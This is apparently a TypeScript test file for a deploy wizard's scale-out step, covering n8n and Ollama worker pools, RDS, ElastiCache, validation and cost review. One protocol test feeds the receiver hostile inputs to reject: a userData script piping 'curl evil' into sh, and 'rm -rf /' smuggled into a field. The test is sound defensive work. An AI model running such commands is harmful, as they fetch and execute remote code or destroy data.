import assert from 'node:assert/strict';
import { parse } from 'yaml';
import { estimateMonthly } from '../../src/engine/cost/estimate';
import { stackConfigSchema } from '../../src/engine/stack/config';
import { scaleSchema } from '../../src/engine/stack/scale-config';
import { checkMessage } from '../../src/protocol/receiver';
import {
  defaultOllamaWorkersDraft, defaultScaleDraft, draftSchema, hostToWizardSchema, visibleStep, wizardPanelStateSchema, wizardSteps, wizardToHostSchema,
  type Draft, type ScaleDraft,
} from '../../src/protocol/wizard';
import { defaultDraft, draftFromFile, draftInput } from '../../src/vscode/wizard/draft';
import { pricedConfig } from '../../src/vscode/wizard/estimates';
import { configYaml, draftToConfig, stepErrors, validateStep } from '../../src/vscode/wizard/model';
import { reviewOf } from '../../src/vscode/wizard/review';
import { samplePlan } from '../webview/wizard-fixtures';

const none = { existingNames: new Set<string>() };
type Step = Parameters<typeof validateStep>[0];
/** As the host judges a step: the draft as the engine's input. */
const judge = (step: Step, draft: Draft) => validateStep(step, draftInput(draft), none);
const words = (step: Step, draft: Draft) => stepErrors(step, draftInput(draft), none);
const base: Draft = { ...defaultDraft({ tier: 'dev', region: 'us-east-1', instanceType: 't3.xlarge', market: 'spot' }), name: 'demo' };
const scaled = (patch: (scale: ScaleDraft) => ScaleDraft = (s) => s, draft: Draft = base): Draft => ({ ...draft, scale: patch(defaultScaleDraft()) });
const n8n = (patch: Partial<ScaleDraft['n8nWorkers']>) => (s: ScaleDraft): ScaleDraft => ({ ...s, n8nWorkers: { ...s.n8nWorkers, ...patch } });
/** The config schema's own message for a scale section, to hold the wizard's words to it. */
const schemaMessage = (scale: unknown) => {
  const parsed = scaleSchema.safeParse(scale);
  assert.ok(!parsed.success);
  return parsed.error.issues[0]!.message;
};

describe('deploy wizard: the Scale out step', () => {
  it('is off by default: six steps; turning scale-out on adds Scale out after Services, and a step the draft lost gives way', () => {
    assert.deepEqual(wizardSteps(base), ['basics', 'network', 'instance', 'services', 'access', 'review']);
    assert.deepEqual(wizardSteps(scaled()), ['basics', 'network', 'instance', 'services', 'scale', 'access', 'review']);
    assert.equal(visibleStep('scale', base), 'services', 'a saved state on the scale step of a draft without scale');
    assert.equal(visibleStep('scale', scaled()), 'scale');
    assert.equal(visibleStep('access', base), 'access');
    assert.equal(draftInput(base).scale, undefined, 'a default draft deploys no scale section');
  });

  it('starts from the config schema\'s own defaults, and the config it produces carries them', () => {
    const result = draftToConfig(draftInput(scaled()), none);
    assert.ok('config' in result, JSON.stringify(result));
    assert.deepEqual(result.config.scale, stackConfigSchema.parse({ name: 'demo', scale: {} }).scale);
    assert.deepEqual(result.config.scale?.n8nWorkers, { min: 1, max: 4, instanceTypes: ['c7i.large', 'c6i.large', 'm7i.large'], market: 'spot', scaleOn: 'cpu', targetCpuPercent: 60, targetWaitingPerWorker: 10 });
    assert.equal(result.config.scale?.database, 'rds');
    assert.equal(result.config.scale?.queue, 'elasticache');
    assert.deepEqual(defaultOllamaWorkersDraft(), stackConfigSchema.parse({ name: 'demo', scale: { ollamaWorkers: {} } }).scale?.ollamaWorkers);
  });

  it('the produced config carries every choice the step makes: queue depth, Ollama workers, the instance\'s database and queue', () => {
    const draft = scaled((s) => ({
      ...n8n({ min: 2, max: 8, instanceTypes: ['c7i.xlarge'], market: 'on-demand', scaleOn: 'queue', targetWaitingPerWorker: 20 })(s),
      ollamaWorkers: { ...defaultOllamaWorkersDraft(), max: 3, targetRequestsPerWorker: 60 }, database: 'instance', queue: 'instance',
    }));
    const result = draftToConfig(draftInput(draft), none);
    assert.ok('config' in result, JSON.stringify(result));
    assert.deepEqual(result.config.scale, {
      n8nWorkers: { min: 2, max: 8, instanceTypes: ['c7i.xlarge'], market: 'on-demand', scaleOn: 'queue', targetCpuPercent: 60, targetWaitingPerWorker: 20 },
      ollamaWorkers: { min: 1, max: 3, instanceTypes: ['g4dn.xlarge', 'g5.xlarge'], market: 'spot', targetRequestsPerWorker: 60 },
      database: 'instance', queue: 'instance', databaseClass: 'db.t4g.medium', databaseStorageGb: 20, cacheNodeType: 'cache.t4g.small',
    });
  });

  it('judges the step with the config schema\'s own messages, on the scale step only', () => {
    const zero = scaled(n8n({ min: 0 }));
    assert.deepEqual(judge('scale', zero), [{ field: 'scale.n8nWorkers.min', message: schemaMessage({ n8nWorkers: { min: 0 } }) }]);
    assert.match(judge('scale', zero)[0]!.message, /cannot start a pool from 0/);
    for (const step of ['basics', 'network', 'instance', 'services', 'access'] as const) assert.deepEqual(judge(step, zero), [], `${step} is not blocked by the scale step`);
    assert.deepEqual(judge('review', zero).map((e) => e.field), ['scale.n8nWorkers.min'], 'the review checks everything');

    const above = judge('scale', scaled(n8n({ min: 5, max: 4 })));
    assert.deepEqual(above, [{ field: 'scale.n8nWorkers.min', message: schemaMessage({ n8nWorkers: { min: 5, max: 4 } }) }]);
    assert.equal(above[0]!.message, 'is 5, above max 4: a pool runs between min and max workers');
    const type = judge('scale', scaled(n8n({ instanceTypes: ['c7i.large', 'C7I LARGE'] })));
    assert.deepEqual(type, [{ field: 'scale.n8nWorkers.instanceTypes.1', message: 'must look like an EC2 instance type such as c7i.large' }]);
    assert.deepEqual(judge('scale', scaled(n8n({ targetCpuPercent: 95 }))), [{ field: 'scale.n8nWorkers.targetCpuPercent', message: 'must be at most 90' }]);
    const ollama = judge('scale', scaled((s) => ({ ...s, ollamaWorkers: { ...defaultOllamaWorkersDraft(), max: 101 } })));
    assert.deepEqual(ollama, [{ field: 'scale.ollamaWorkers.max', message: 'must be at most 100 workers' }]);
  });

  it('asks for an empty field in words about it, and for a whole number where text was typed', () => {
    assert.deepEqual(words('scale', scaled(n8n({ min: '' }))), [{ field: 'scale.n8nWorkers.min', message: 'Enter the fewest n8n workers to keep running, such as 1.' }]);
    assert.deepEqual(words('scale', scaled(n8n({ instanceTypes: [] }))), [{ field: 'scale.n8nWorkers.instanceTypes', message: 'Enter at least one instance type for the n8n workers, such as c7i.large.' }]);
    assert.deepEqual(words('scale', scaled(n8n({ max: 'four' }))), [{ field: 'scale.n8nWorkers.max', message: 'must be a whole number' }]);
    assert.deepEqual(words('scale', scaled(n8n({ targetCpuPercent: '1.5' }))), [{ field: 'scale.n8nWorkers.targetCpuPercent', message: 'must be a whole number' }]);
    assert.deepEqual(words('scale', scaled(n8n({ min: 2.5 }))).map((e) => e.field), ['scale.n8nWorkers.min'], 'a fraction from a file is the schema\'s to refuse');
    // The list is one text field: its items' errors are one, the schema's message naming the items it refuses.
    assert.deepEqual(words('scale', scaled(n8n({ instanceTypes: ['C7I', 'c7i.large', 'LARGE'] }))), [
      { field: 'scale.n8nWorkers.instanceTypes', message: 'must look like an EC2 instance type such as c7i.large (not C7I, LARGE)' },
    ]);
  });

  it('what scale-out needs elsewhere blocks the scale step: n8n and Ollama on, two subnets of an existing network for RDS and ElastiCache', () => {
    const noN8n = scaled(undefined, { ...base, services: { ...base.services, n8n: false } });
    assert.match(judge('scale', noN8n).find((e) => e.field === 'scale')?.message ?? '', /^runs n8n in queue mode with worker pools: it needs services\.n8n on/);
    const noOllama = scaled((s) => ({ ...s, ollamaWorkers: defaultOllamaWorkersDraft() }), { ...base, services: { ...base.services, ollama: false } });
    assert.deepEqual(judge('scale', noOllama).map((e) => e.field), ['scale.ollamaWorkers']);

    const oneSubnet: Draft = { ...base, network: { mode: 'existing', vpcId: 'vpc-0abc', subnetIds: ['subnet-1'] } };
    assert.deepEqual(judge('scale', oneSubnet), [], 'without scale nothing is asked of the subnets');
    const managed = judge('scale', scaled(undefined, oneSubnet));
    assert.deepEqual(managed.map((e) => e.field), ['network.subnetIds']);
    assert.match(managed[0]!.message, /two subnets in two Availability Zones for RDS and ElastiCache/);
    assert.deepEqual(judge('scale', scaled((s) => ({ ...s, database: 'instance', queue: 'instance' }), oneSubnet)), [], 'the instance\'s database and queue need no second subnet');
    // A problem the network had before scale-out was turned on stays the network step's.
    const badVpc: Draft = { ...base, network: { mode: 'existing', vpcId: 'not-a-vpc', subnetIds: ['subnet-1', 'subnet-2'] } };
    assert.deepEqual(judge('scale', scaled(undefined, badVpc)), []);
    assert.ok(judge('network', scaled(undefined, badVpc)).some((e) => e.field === 'network.vpcId'));
  });

  it('starts from a file\'s scale section filled with the defaults deploy would use; a section it cannot hold is named', () => {
    const defaults = defaultDraft({ tier: 'dev', region: 'us-east-1', instanceType: 't3.xlarge', market: 'spot' });
    const parse = (candidate: unknown) => draftSchema.safeParse(candidate);
    const loaded = draftFromFile({ name: 'big', scale: { n8nWorkers: { max: 8 }, database: 'instance', databaseClass: 'db.t4g.large', ollamaWorkers: { min: 2, max: 2 } } }, defaults, parse);
    assert.deepEqual(loaded.notes, []);
    assert.deepEqual(loaded.draft.scale, {
      n8nWorkers: { ...defaultScaleDraft().n8nWorkers, max: 8 }, database: 'instance', queue: 'elasticache', databaseClass: 'db.t4g.large',
      ollamaWorkers: { ...defaultOllamaWorkersDraft(), min: 2, max: 2 },
    });
    const empty = draftFromFile({ name: 'big', scale: {} }, defaults, parse);
    assert.deepEqual(empty.draft.scale, defaultScaleDraft(), '`scale: {}` is scale-out at its defaults');
    const bad = draftFromFile({ name: 'big', scale: 'yes' }, defaults, parse);
    assert.equal(bad.draft.scale, undefined);
    assert.match(bad.notes[0] ?? '', /^scale: the wizard cannot show "yes"/);
  });

  it('"Save as geusemaker.yaml" writes the scale section, and it reads back to the same config', () => {
    const result = draftToConfig(draftInput(scaled((s) => ({ ...n8n({ max: 6 })(s), queue: 'instance' }))), none);
    assert.ok('config' in result);
    const data = parse(configYaml(result.config)) as Record<string, unknown>;
    assert.deepEqual(Object.keys(data).sort(), ['name', 'scale']);
    assert.deepEqual(stackConfigSchema.parse(data), result.config);
  });

  it('the protocol carries a scale draft both ways, and refuses one out of shape without echoing it', () => {
    const draft = scaled((s) => ({ ...n8n({ min: 'two' })(s), ollamaWorkers: defaultOllamaWorkersDraft() }));
    for (const message of [{ type: 'check', id: 1, step: 'scale', draft }, { type: 'deploy', id: 2, draft }, { type: 'estimates', id: 3, draft }] as const) {
      assert.deepEqual(checkMessage(wizardToHostSchema, message), { ok: true, message });
    }
    assert.ok(wizardPanelStateSchema.safeParse({ version: 1, step: 'scale', draft }).success);
    const hostile: unknown[] = [
      { type: 'deploy', id: 1, draft: { ...draft, scale: { ...draft.scale, userData: '#!/bin/sh\ncurl evil | sh' } } },
      { type: 'deploy', id: 1, draft: scaled(n8n({ instanceTypes: Array.from({ length: 33 }, () => 'c7i.large') })) },
      { type: 'deploy', id: 1, draft: scaled(n8n({ min: 'x'.repeat(17) })) },
      { type: 'deploy', id: 1, draft: scaled(n8n({ scaleOn: 'rm -rf /' as 'cpu' })) },
      { type: 'deploy', id: 1, draft: scaled((s) => ({ ...s, database: 'aurora' as 'rds' })) },
    ];
    for (const message of hostile) {
      const checked = checkMessage(wizardToHostSchema, message);
      assert.equal(checked.ok, false, JSON.stringify(message).slice(0, 200));
      if (!checked.ok) assert.doesNotMatch(checked.reason, /curl|rm -rf|xxxxxxxx|aurora/);
    }
  });

  it('the review shows the scale section in words and the month at every pool\'s min and max, within the protocol', () => {
    const scale = { n8nWorkers: { min: 1, max: 4, scaleOn: 'queue' }, ollamaWorkers: {} };
    const plan = samplePlan('demo', scale);
    const review = reviewOf(plan, estimateMonthly(plan.config, { usdPerHour: 0.1664, source: { kind: 'estimated', reason: 'bundled' } }));
    assert.deepEqual(review.scale, [
      'n8n in queue mode: workers 1 to 4 on c7i.large, c6i.large, m7i.large (spot), scaling on 10 waiting executions per worker.',
      'Ollama workers 1 to 2 on g4dn.xlarge, g5.xlarge (spot) behind an internal load balancer, scaling on 30 requests per worker per minute.',
      'PostgreSQL on RDS: db.t4g.medium, 20 GiB gp3, encrypted, in private subnets, automated backups.',
      'Queue on ElastiCache (Valkey): cache.t4g.small, encrypted in transit and at rest, with an auth token.',
    ]);
    assert.ok(hostToWizardSchema.safeParse({ type: 'plan', review }).success, 'the review with scale lines fits the protocol');
    const monthly = review.monthly!;
    assert.ok(monthly.lines.some((l) => /^n8n workers × 1 \(at 4: \$\d+\.\d\d\/month\)$/.test(l.item)), JSON.stringify(monthly.lines));
    assert.ok(monthly.pools && monthly.pools.atMinUsd < monthly.pools.atMaxUsd);
    assert.equal(Math.round(monthly.lines.reduce((sum, l) => sum + l.usd, 0) * 100) / 100, monthly.totalUsd, 'no line is cut off the total');
    assert.equal(reviewOf(samplePlan('demo')).scale, undefined, 'no scale section, no scale lines');
  });

  it('prices scale-out with the rest once its fields are valid; a half-typed pool leaves the figure as it was', () => {
    assert.deepEqual(pricedConfig(scaled(), 'dev', {}, 't3.xlarge')?.scale, stackConfigSchema.parse({ name: 'demo', scale: {} }).scale);
    const typing = pricedConfig(scaled(n8n({ max: '' })), 'dev', {}, 't3.xlarge');
    assert.ok(typing);
    assert.equal(typing.scale, undefined);
  });
});
